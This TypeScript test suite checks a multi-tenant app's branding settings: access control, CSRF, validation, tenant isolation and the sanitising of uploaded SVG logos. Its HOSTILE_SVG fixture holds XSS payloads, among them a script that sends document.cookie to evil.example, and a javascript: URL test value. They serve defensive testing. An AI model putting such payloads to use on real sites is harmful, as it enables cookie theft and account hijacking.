import type { ChildProcess } from 'node:child_process';
import { request as httpRequest } from 'node:http';
import type { NestExpressApplication } from '@nestjs/platform-express';
import { Pool } from 'pg';

import { CONTRAST_BACKGROUNDS, darkerShade } from '../../libs/branding/src/contrast';
import { hashPassword } from '../../libs/auth/src/passwords';
import { adminPool, provisionTestTenant, TEST_PASSWORD, TestTenant } from '../support/fixtures';
import { pngImage } from '../support/images';
import { startAppProcess, stopAppProcess } from '../support/app-process';
import { csrfFrom, HttpResponse, PortalClient, rawRequest, startConsole } from '../support/portal-harness';

const CONSOLE_HOST = 'console.localhost';

const HOSTILE_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 120 40" onload="alert(document.cookie)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <style>@import url("https://evil.example/track.css");</style>
  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>
  <use xlink:href="https://evil.example/sprite.svg#logo"/>
  <a href="javascript:alert(2)"><rect x="0" y="0" width="40" height="40" fill="#1f4e79" onclick="alert(3)"/></a>
  <text x="50" y="28" fill="#1f4e79">Acme</text>
</svg>`;

interface FilePart {
  filename: string;
  contentType: string;
  data: Buffer;
}

/** Builds a multipart/form-data body the way a browser sends the branding form: fields first, the file last. */
function multipart(fields: Record<string, string>, file?: FilePart): { head: Buffer; tail: Buffer; boundary: string } {
  const boundary = `----branding-test-${Math.random().toString(16).slice(2)}`;
  let head = '';
  for (const [name, value] of Object.entries(fields)) {
    head += `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
  }
  if (file) {
    head += `--${boundary}\r\nContent-Disposition: form-data; name="logo"; filename="${file.filename}"\r\nContent-Type: ${file.contentType}\r\n\r\n`;
  }
  const tail = `${file ? '\r\n' : ''}--${boundary}--\r\n`;
  return { head: Buffer.from(head), tail: Buffer.from(tail), boundary };
}

/**
 * Posts a multipart form as the signed-in client. The file's data is
 * written `repeat` times, so a large upload is streamed rather than built
 * in memory.
 */
function postMultipart(
  client: PortalClient,
  path: string,
  fields: Record<string, string>,
  file?: FilePart & { repeat?: number },
): Promise<HttpResponse> {
  const { head, tail, boundary } = multipart(fields, file);
  const repeat = file?.repeat ?? 1;
  const length = head.length + (file ? file.data.length * repeat : 0) + tail.length;

  return new Promise((resolve, reject) => {
    const req = httpRequest(
      {
        host: '127.0.0.1',
        port: client.port,
        path,
        method: 'POST',
        setHost: false,
        headers: {
          host: client.host,
          cookie: client.cookieHeader(),
          'content-type': `multipart/form-data; boundary=${boundary}`,
          'content-length': String(length),
        },
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }));
      },
    );
    req.on('error', reject);

    void (async () => {
      const write = (chunk: Buffer) =>
        new Promise<void>((done) => (req.write(chunk) ? done() : req.once('drain', () => done())));
      await write(head);
      for (let index = 0; file && index < repeat; index += 1) await write(file.data);
      req.end(tail);
    })();
  });
}


describe('settings → branding', () => {
  let app: NestExpressApplication;
  let port: number;
  let admin: Pool;
  let tenantA: TestTenant;
  let tenantB: TestTenant;
  let owner: PortalClient;
  let adminStaff: PortalClient;
  let member: PortalClient;
  let ownerB: PortalClient;
  const portals: Array<{ child: ChildProcess; port: number }> = [];

  const client = () => new PortalClient(port, CONSOLE_HOST);
  const signIn = async (slug: string, email: string) => {
    const target = client();
    const response = await target.submit('/login', '/login', { workspace: slug, email, password: TEST_PASSWORD, next: '/' });
    expect(response.status).toBe(303);
    return target;
  };

  async function brandingRow(tenant: TestTenant) {
    const result = await admin.query(
      `SELECT company_name, tagline, primary_color, accent_color, support_email, support_phone, website_url, address,
              welcome_message, logo, logo_content_type, version, updated_at
       FROM brandings WHERE tenant_id = $1`,
      [tenant.tenantId],
    );
    return result.rows[0];
  }

  /** Returns the saved values as form fields, so a test changes only what it names. */
  async function formFields(staff: PortalClient, changes: Record<string, string> = {}): Promise<Record<string, string>> {
    const page = await staff.get('/settings/branding');
    const row = await brandingRow(tenantA);
    const fields: Record<string, string> = { _csrf: csrfFrom(page.body) };
    for (const name of ['company_name', 'tagline', 'primary_color', 'accent_color', 'support_email', 'support_phone', 'website_url', 'address', 'welcome_message']) {
      fields[name] = row[name] ?? '';
    }
    return { ...fields, ...changes };
  }

  beforeAll(async () => {
    admin = adminPool();
    tenantA = await provisionTestTenant(admin, 'brand-a', 1);
    tenantB = await provisionTestTenant(admin, 'brand-b', 1);
    const hash = await hashPassword(TEST_PASSWORD);
    for (const role of ['admin', 'member']) {
      await admin.query(`INSERT INTO staff_users (tenant_id, email, name, role, status, password_hash) VALUES ($1, $2, $3, $4, 'active', $5)`, [
        tenantA.tenantId,
        `${role}@${tenantA.slug}.example`,
        `A ${role}`,
        role,
        hash,
      ]);
    }
    ({ app, port } = await startConsole());
    portals.push(...(await Promise.all([startAppProcess('portal'), startAppProcess('portal')])));

    owner = await signIn(tenantA.slug, `owner@${tenantA.slug}.example`);
    adminStaff = await signIn(tenantA.slug, `admin@${tenantA.slug}.example`);
    member = await signIn(tenantA.slug, `member@${tenantA.slug}.example`);
    ownerB = await signIn(tenantB.slug, `owner@${tenantB.slug}.example`);
  }, 120_000);

  afterAll(async () => {
    await Promise.all(portals.map(({ child }) => stopAppProcess(child)));
    await app?.close();
    await admin?.end();
  });

  it('shows the form and the navigation link to admins', async () => {
    const page = await adminStaff.get('/settings/branding');

    expect(page.status).toBe(200);
    expect(page.body).toContain('href="/settings/branding"');
    expect(page.body).toContain(`value="Brand ${tenantA.slug}"`);
    expect(page.body).toContain('value="#123456"');
    expect(page.body).toContain('enctype="multipart/form-data"');
    expect(page.body).toContain('<script src="/assets/branding-preview.js" defer></script>');
    // The CSP allows no inline script or style attribute.
    expect(page.body).not.toMatch(/<script(?![^>]*\ssrc=)/);
    expect(page.body).not.toMatch(/\sstyle="/);
  });

  it('serves the preview script and styles', async () => {
    const script = await owner.get('/assets/branding-preview.js');
    expect(script.status).toBe(200);
    expect(script.headers['content-type']).toMatch(/javascript/);

    const styles = await owner.get('/settings/branding/preview.css?v=1');
    expect(styles.status).toBe(200);
    expect(styles.headers['content-type']).toMatch(/^text\/css/);
    expect(styles.body).toContain('--preview-primary: #123456');
  });

  it('keeps members out', async () => {
    const home = await member.get('/');
    expect(home.body).not.toContain('href="/settings/branding"');
    expect((await member.get('/settings/branding')).status).toBe(403);

    const token = csrfFrom(home.body);
    const before = await brandingRow(tenantA);
    const save = await postMultipart(member, '/settings/branding', { _csrf: token, company_name: 'Member Co', primary_color: '#000000', accent_color: '#000000' });
    expect(save.status).toBe(403);
    const darken = await member.request('/settings/branding/darker-shade', { form: { _csrf: token, field: 'primary_color' } });
    expect(darken.status).toBe(403);
    expect((await brandingRow(tenantA)).version).toBe(before.version);
  });

  it('rejects a save without a CSRF token', async () => {
    const fields = await formFields(owner, { company_name: 'No Token Co' });
    delete fields._csrf;
    const response = await postMultipart(owner, '/settings/branding', fields);

    expect(response.status).toBe(403);
    expect((await brandingRow(tenantA)).company_name).toBe(`Brand ${tenantA.slug}`);
  });

  it('rejects an invalid colour and email, naming each field', async () => {
    const before = await brandingRow(tenantA);
    const fields = await formFields(owner, { company_name: 'Typed But Not Saved', primary_color: 'blue', support_email: 'help-at-example' });
    const response = await postMultipart(owner, '/settings/branding', fields);

    expect(response.status).toBe(400);
    expect(response.body).toContain('Primary colour must be a hex colour such as #1f4e79.');
    expect(response.body).toContain('Support email must be an email address such as support@example.com.');
    expect(response.body).toContain('id="primary_color-error"');
    expect(response.body).toContain('value="Typed But Not Saved"');
    expect(response.body).toContain('value="blue"');
    expect(response.body).toContain('value="help-at-example"');
    expect(await brandingRow(tenantA)).toEqual(before);
  });

  it.each([
    ['company_name', '', 'Company name is required.'],
    ['accent_color', '#12345g', 'Accent colour must be a hex colour'],
    ['website_url', 'javascript:alert(1)', 'Website must start with https:// or http://'],
    ['support_phone', 'call us', 'Support phone must be a phone number'],
    ['tagline', 'x'.repeat(201), 'Tagline must be at most 200 characters.'],
  ])('rejects %s = %j', async (field, value, message) => {
    const response = await postMultipart(owner, '/settings/branding', await formFields(owner, { [field]: value }));

    expect(response.status).toBe(400);
    expect(response.body).toContain(message);
  });

  it('saves changes, bumps the version and logs the changed fields', async () => {
    const before = await brandingRow(tenantA);
    const fields = await formFields(adminStaff, {
      tagline: 'Inspections you can trust',
      support_email: 'Help@Example.com',
      website_url: 'https://www.example.com/',
      welcome_message: 'Welcome!\r\nYour reports are below.',
    });
    const response = await postMultipart(adminStaff, '/settings/branding', fields);

    expect(response.status).toBe(303);
    expect(response.headers.location).toBe('/settings/branding?done=saved');
    const after = await brandingRow(tenantA);
    expect(after.tagline).toBe('Inspections you can trust');
    expect(after.support_email).toBe('help@example.com');
    expect(after.welcome_message).toBe('Welcome!\nYour reports are below.');
    expect(after.version).toBe(before.version + 1);
    expect(after.updated_at.getTime()).toBeGreaterThan(before.updated_at.getTime());

    const activity = await admin.query(
      `SELECT e.actor_type, e.details, s.email FROM activity_events e JOIN staff_users s ON s.tenant_id = e.tenant_id AND s.id = e.actor_id
       WHERE e.tenant_id = $1 AND e.action = 'branding.updated' ORDER BY e.occurred_at DESC LIMIT 1`,
      [tenantA.tenantId],
    );
    expect(activity.rows[0].actor_type).toBe('staff');
    expect(activity.rows[0].email).toBe(`admin@${tenantA.slug}.example`);
    expect(activity.rows[0].details).toEqual({ fields: ['tagline', 'support_email', 'website_url', 'welcome_message'] });

    const page = await adminStaff.get('/settings/branding?done=saved');
    expect(page.body).toContain('Branding saved.');
    expect(page.body).toContain('>Welcome!\nYour reports are below.</textarea>');
  });

  it('saves nothing when nothing changed', async () => {
    const before = await brandingRow(tenantA);
    const response = await postMultipart(owner, '/settings/branding', await formFields(owner));

    expect(response.headers.location).toBe('/settings/branding?done=unchanged');
    expect((await brandingRow(tenantA)).version).toBe(before.version);
  });

  it('cannot change another tenant', async () => {
    const beforeB = await brandingRow(tenantB);
    const smuggled = await postMultipart(owner, '/settings/branding', await formFields(owner, { company_name: 'Hijacked', tenant_id: tenantB.tenantId }));
    expect(smuggled.status).toBe(400);
    expect(smuggled.body).toContain('The field “tenant_id” is not a field of this form.');

    const saved = await postMultipart(owner, '/settings/branding', await formFields(owner, { company_name: 'Only Tenant A' }));
    expect(saved.status).toBe(303);
    expect((await brandingRow(tenantA)).company_name).toBe('Only Tenant A');
    expect(await brandingRow(tenantB)).toEqual(beforeB);

    const pageB = await ownerB.get('/settings/branding');
    expect(pageB.body).toContain(`value="Brand ${tenantB.slug}"`);
    expect(pageB.body).not.toContain('Only Tenant A');
  });

  it('cleans a hostile SVG before the portal serves it', async () => {
    const response = await postMultipart(owner, '/settings/branding', await formFields(owner), {
      filename: 'logo.svg',
      contentType: 'image/svg+xml',
      data: Buffer.from(HOSTILE_SVG),
    });
    expect(response.status).toBe(303);

    const page = await owner.get(response.headers.location as string);
    expect(page.body).toContain('The SVG logo was cleaned before it was saved.');
    expect(page.body).toContain('&lt;script&gt; elements');
    expect(page.body).toContain('<img src="/settings/branding/logo?v=');

    const { version } = await brandingRow(tenantA);
    const logo = await rawRequest(portals[0].port, `${tenantA.slug}.localhost`, `/branding/logo?v=${version}`);
    expect(logo.status).toBe(200);
    expect(logo.headers['content-type']).toBe('image/svg+xml');
    expect(logo.headers['x-content-type-options']).toBe('nosniff');
    expect(logo.headers['content-security-policy']).toMatch(/default-src 'none'/);
    expect(logo.headers['content-security-policy']).toMatch(/\bsandbox\b/);
    expect(logo.body).toContain('<rect x="0" y="0" width="40" height="40" fill="#1f4e79">');
    expect(logo.body).toContain('>Acme</text>');
    for (const hostile of [/<script/i, /\son\w+=/i, /foreignObject/i, /javascript:/i, /evil\.example/, /@import/, /<use/, /<a[\s>]/]) {
      expect(logo.body).not.toMatch(hostile);
    }

    const consoleCopy = await owner.get('/settings/branding/logo');
    expect(consoleCopy.body).toBe(logo.body);
    expect(consoleCopy.headers['content-security-policy']).toMatch(/\bsandbox\b/);
  });

  it('rejects a file that is not an image, whatever its name and type', async () => {
    const before = await brandingRow(tenantA);
    const response = await postMultipart(owner, '/settings/branding', await formFields(owner, { tagline: 'Kept as typed' }), {
      filename: 'logo.png',
      contentType: 'image/png',
      data: Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n'),
    });

    expect(response.status).toBe(400);
    expect(response.body).toContain('The file is not a PNG, JPEG, WebP or SVG image.');
    expect(response.body).toContain('id="logo-error"');
    expect(response.body).toContain('value="Kept as typed"');
    expect(await brandingRow(tenantA)).toEqual(before);
  });

  it('rejects a raster logo below the minimum size', async () => {
    const response = await postMultipart(owner, '/settings/branding', await formFields(owner), {
      filename: 'tiny.png',
      contentType: 'image/png',
      data: pngImage(8, 8),
    });

    expect(response.status).toBe(400);
    expect(response.body).toContain('The image is 8×8 pixels, but a logo must be at least 16 pixels wide and high.');
  });

  it('rejects a 20 MB upload with a clear message', async () => {
    const before = await brandingRow(tenantA);
    const megabyte = Buffer.concat([pngImage(100, 40), Buffer.alloc(1024 * 1024)]).subarray(0, 1024 * 1024);
    const response = await postMultipart(owner, '/settings/branding', await formFields(owner, { company_name: 'Typed Before The File' }), {
      filename: 'huge.png',
      contentType: 'image/png',
      data: megabyte,
      repeat: 20,
    });

    expect(response.status).toBe(413);
    expect(response.body).toContain('The logo file is larger than 1 MB. Upload a smaller file.');
    expect(response.body).toContain('<form class="branding-form"');
    expect(response.body).toContain('value="Typed Before The File"');
    expect(response.body).not.toMatch(/MulterError|\n\s+at |Error id/);
    expect(await brandingRow(tenantA)).toEqual(before);
  }, 60_000);

  it('uploads a PNG and removes it again', async () => {
    const png = pngImage(120, 40);
    const upload = await postMultipart(owner, '/settings/branding', await formFields(owner), { filename: 'logo.png', contentType: 'image/png', data: png });
    expect(upload.status).toBe(303);
    let row = await brandingRow(tenantA);
    expect(row.logo_content_type).toBe('image/png');
    expect(Buffer.compare(row.logo, png)).toBe(0);

    const remove = await postMultipart(owner, '/settings/branding', await formFields(owner, { remove_logo: '1' }));
    expect(remove.status).toBe(303);
    row = await brandingRow(tenantA);
    expect(row.logo).toBeNull();
    expect(row.logo_content_type).toBeNull();
    expect((await rawRequest(portals[1].port, `${tenantA.slug}.localhost`, `/branding/logo?v=${row.version}`)).status).toBe(404);
  });

  it('warns about low contrast and applies a darker shade', async () => {
    const light = '#87ceeb';
    expect((await postMultipart(owner, '/settings/branding', await formFields(owner, { primary_color: light }))).status).toBe(303);

    const page = await owner.get('/settings/branding');
    const shade = darkerShade(light, CONTRAST_BACKGROUNDS.primary_color);
    expect(page.body).toContain('White text on the primary colour: <strong>1.74:1</strong>, below 4.5:1');
    expect(page.body).toContain(`Use the darker shade ${shade}`);

    const applied = await owner.request('/settings/branding/darker-shade', { form: { _csrf: csrfFrom(page.body), field: 'primary_color' } });
    expect(applied.status).toBe(303);
    expect(applied.headers.location).toBe('/settings/branding?done=darkened');
    expect((await brandingRow(tenantA)).primary_color).toBe(shade);

    const after = await owner.get('/settings/branding?done=darkened');
    expect(after.body).toContain('The darker shade is saved.');
    expect(after.body).toContain('Primary-colour links on the page background: <strong>4.50:1</strong>, passes');
    expect(after.body).not.toContain('name="field" value="primary_color"');
  });

  it('rejects a darker shade for an unknown field', async () => {
    const token = csrfFrom((await owner.get('/settings/branding')).body);
    const response = await owner.request('/settings/branding/darker-shade', { form: { _csrf: token, field: 'version' } });

    expect(response.status).toBe(400);
  });

  it('shows a colour change on the next request of every portal process', async () => {
    const host = `${tenantA.slug}.localhost`;
    const { version, primary_color: oldColor } = await brandingRow(tenantA);
    for (const portal of portals) {
      const login = await rawRequest(portal.port, host, '/login');
      expect(login.body).toContain(`/branding/theme.css?v=${version}`);
      expect((await rawRequest(portal.port, host, `/branding/theme.css?v=${version}`)).body).toContain(oldColor);
    }

    const newColor = '#0b3d2e';
    const saved = await postMultipart(owner, '/settings/branding', await formFields(owner, { primary_color: newColor.toUpperCase() }));
    expect(saved.status).toBe(303);
    expect((await brandingRow(tenantA)).primary_color).toBe(newColor);

    for (const portal of portals) {
      const login = await rawRequest(portal.port, host, '/login');
      expect(login.body).toContain(`/branding/theme.css?v=${version + 1}`);
      const theme = await rawRequest(portal.port, host, `/branding/theme.css?v=${version + 1}`);
      expect(theme.body).toContain(`--brand-primary: ${newColor};`);
    }
  });
});
